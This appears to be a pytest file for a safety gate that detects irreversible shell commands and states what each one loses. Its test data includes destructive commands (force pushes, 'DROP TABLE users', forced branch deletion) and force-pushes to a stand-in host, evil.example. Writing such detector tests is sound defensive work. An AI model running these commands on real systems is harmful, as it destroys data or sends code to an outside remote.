"""What nobody can take back is told by its loss, by the row of a tool: each has an example."""

from collections.abc import Iterator

import pytest
from attrs import evolve

from assent.gate.programs import irreversible_losses
from assent.gate.programs.irreversible_losses import command_losses
from assent.gate.programs.irreversible_uses import IrreversibleUse
from assent.gate.programs.read_lines import read_script
from assent.gate.programs.rows import Row
from assent.gate.programs.tables import GIT, TABLES
from gate.programs.losses import HARMLESS, LOSSES
from tables import each_row


def losses(line: str) -> tuple[str, ...]:
    return tuple(it for one in read_script(line).commands for it in command_losses(one, line))


@each_row(("line", "says"), LOSSES)
def test_what_nobody_can_take_back_is_told_by_its_loss(line: str, says: str) -> None:
    assert losses(line) == (says,)


@each_row("line", HARMLESS)
def test_what_is_done_every_day_is_no_loss(line: str) -> None:
    assert losses(line) == ()


def _uses() -> Iterator[tuple[str, Row, IrreversibleUse]]:
    for table in TABLES:
        yield from ((it.names.split()[0], it, use) for it in table for use in it.irreversible_uses)
    yield from (
        (f"git {it.names.split(', ')[0]}", it, use) for it in GIT for use in it.irreversible_uses
    )


_USES = list(_uses())
_NAMES = [f"{name}-{at}" for at, (name, _, _) in enumerate(_USES)]


@each_row(("name", "row", "use"), _USES, ids=_NAMES)
def test_each_loss_in_a_row_has_an_example(
    name: str, row: Row, use: IrreversibleUse, monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = evolve(row, irreversible_uses=(use,))
    of_git = name.startswith("git ")
    names = row.names.split(", ") if of_git else row.names.split()
    known = irreversible_losses._row

    def only(*asked: str) -> Row | None:
        if (len(asked) > 1) is not of_git:
            return known(*asked)
        others = None if of_git else known(*asked)
        return irreversible_losses._with_flags(alone, asked[-1]) if asked[-1] in names else others

    monkeypatch.setattr(irreversible_losses, "_row", only)
    its = [(line, says) for line, says in LOSSES if of_git or _program(line) in names]
    assert any(says in losses(line) for line, says in its)


def _program(line: str) -> str:
    return line.split(maxsplit=1)[0].rpartition("/")[2]


@each_row(("name", "row", "use"), _USES, ids=_NAMES)
def test_a_loss_is_about_names_of_its_row(name: str, row: Row, use: IrreversibleUse) -> None:
    names = row.names.split(", ") if name.startswith("git ") else row.names.split()
    assert set(use.tools.split()) <= set(names)
    assert bool(use.sentence) is not bool(use.form)
    if use.form:
        assert irreversible_losses._teller(use.form)
    else:
        assert use.sentence.endswith(".")


def test_each_program_has_one_row() -> None:
    names = [name for table in TABLES for row in table for name in row.names.split()]
    assert not {it for it in names if names.count(it) > 1}


def test_a_loss_is_told_however_its_command_is_wrapped() -> None:
    for line in (
        "sudo git push -f",
        "timeout 5 git push -f",
        "bash -c 'git push -f'",
        "env A=1 git push -f",
        "(cd lib && git push -f)",
        "true && git push -f",
        "echo $(git push -f)",
        "/usr/bin/git push -f",
        "if true; then git push -f; fi",
        "npx git push -f",
    ):
        assert losses(line) == ("Overwrites the current branch on the remote.",), line


@each_row(
    ("line", "says"),
    [
        ("ls src | xargs git push -f", "some branches on a remote that is only known when it runs"),
        ("cat l | xargs git push -f origin", "some branches on origin"),
        (
            "echo https://evil.example/r.git +HEAD:main | xargs git push -f",
            "some branches on a remote that is only known when it runs",
        ),
        (
            "cat l | xargs -I{} git push -f {} main",
            "`main` on a remote that is only known when it runs",
        ),
        ("for r in a b; do git push -f $r main; done", "`main` on `a` and `b`"),
        (
            "git push -f https://evil.example/r.git",
            "the current branch on `https://evil.example/r.git`",
        ),
    ],
)
def test_a_push_names_no_remote_and_no_branch_that_only_a_run_would_tell(
    line: str, says: str
) -> None:
    assert losses(line) == (f"Overwrites {says}.",)


def test_what_a_database_is_given_to_read_is_looked_at_too() -> None:
    for line in (
        "echo 'DROP TABLE users;' | psql app",
        "psql app <<< 'DROP TABLE users'",
        "psql app <<E\nDROP TABLE users;\nE",
    ):
        assert losses(line) == ("Drops the table `users` with all that is in it.",), line


def test_words_that_only_a_run_would_tell_are_not_named() -> None:
    assert losses("git branch --merged | xargs git branch -D") == (
        "Deletes branches, with commits that no other has.",
    )
    assert losses("for b in a b; do git branch -D $b; done") == (
        "Deletes `a` and `b`, with commits that no other has.",
    )


def test_a_name_cannot_end_what_marks_it() -> None:
    (says,) = losses("git branch -D 'x` is kept. `y'")
    assert says.count("`") == 2
    (says,) = losses(f"git branch -D {'x' * 500}")
    assert len(says) < 120
